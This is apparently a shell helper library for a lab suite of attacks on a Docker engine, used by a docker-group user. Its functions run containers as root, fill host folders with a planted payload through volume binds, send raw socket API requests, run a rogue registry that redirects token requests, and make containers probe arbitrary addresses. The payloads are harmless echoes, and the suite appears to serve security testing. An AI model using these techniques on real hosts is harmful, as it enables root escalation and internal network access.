#!/bin/sh
# What the attacks have in common; sourced by each, as a user who is in the group docker and nothing else.
# shellcheck disable=SC2034

cd "$HOME" || exit
image=portcullis/redis:lab
socket=/run/docker.sock

# box COMMAND [OPTION…]: runs a command in a container of its own, as its root.
box() {
    command=$1
    shift
    docker run --rm --user 0 "$@" --entrypoint sh "$image" -c "$command"
}

# kept NAME [OPTION…]: makes a container that does nothing, and stays.
kept() {
    name=$1
    shift
    docker create --name "$name" "$@" "$image" >/dev/null
}

# filler FOLDER [MODE]: an image `filler` that has a payload in a folder, for the engine to fill a volume with.
filler() {
    rm -rf "$HOME/filler"
    mkdir -p "$HOME/filler/$1"
    printf '#!/bin/sh\necho payload-of-mallory\n' >"$HOME/filler/$1/payload"
    chmod 0755 "$HOME/filler/$1/payload"
    tar -C "$HOME/filler" --owner 0 --group 0 -c . | docker import - filler >/dev/null
}

# fill TARGET: has the engine fill an empty folder of the host from an image.
fill() {
    filler data
    docker volume create --opt type=none --opt "o=${2:-bind}" --opt "device=$1" filled >/dev/null &&
        docker create --name filling -v filled:/data filler /payload >/dev/null
}

# api METHOD PATH [BODY]: a request as no client would send it.
api() {
    curl -s --max-time 20 --unix-socket "$socket" -X "$1" -H 'Content-Type: application/json' -d "${3:-}" "http://x$2"
}

# created PATH BODY COMMAND: makes a container by the API, whose root runs a command, and shows what it printed.
created() {
    id=$(api POST "$1" "$2" | sed -n 's/.*"Id":"\([0-9a-f]*\)".*/\1/p')
    [ -n "$id" ] && docker start -a "$id"
}

# archive PATH: a tar file with a payload at that path.
archive() {
    rm -rf "$HOME/archive"
    mkdir -p "$HOME/archive/$(dirname "$1")"
    echo payload-of-mallory >"$HOME/archive/$1"
    tar -C "$HOME/archive" --owner 0 --group 0 -c "$1"
}

# registry REALM: a registry of mallory's own, in a container at 127.0.0.1:5999, that sends who pulls to an address for a token.
registry() {
    code=$(
        cat <<'END'
use IO::Socket::INET;
my $s = IO::Socket::INET->new(LocalPort => 5999, Listen => 9, ReuseAddr => 1) or die;
while (my $c = $s->accept) {
    my $l = <$c>;
    print $c $ARGV[0] eq 'token'
        ? "HTTP/1.0 401 Unauthorized\r\nWWW-Authenticate: Bearer realm=\"$ARGV[1]\",service=\"x\"\r\nContent-Length: 0\r\n\r\n"
        : "HTTP/1.0 302 Found\r\nLocation: $ARGV[1]\r\nContent-Length: 0\r\n\r\n";
    close $c;
}
END
    )
    docker run -d --name registry --user 0 -p 127.0.0.1:5999:5999 --entrypoint perl "$image" -e "$code" -- "$@" >/dev/null
    sleep 1
}

# build DOCKERFILE-LINE…: builds by the engine's own builder.
build() {
    rm -rf "$HOME/context"
    mkdir -p "$HOME/context"
    printf '%s\n' "FROM $image" 'USER 0' "$1" >"$HOME/context/Dockerfile"
    shift
    DOCKER_BUILDKIT=${kit:-0} docker build --no-cache "$@" "$HOME/context"
}

# ask URL: a command for a container, which asks an address.
ask() {
    # shellcheck disable=SC2016 # for perl
    printf 'perl -MIO::Socket::INET -e '\''my $s = IO::Socket::INET->new(PeerAddr => "%s", Timeout => 3) or die; print $s "GET / HTTP/1.0\\r\\n\\r\\n"; print <$s>'\''' "$1"
}
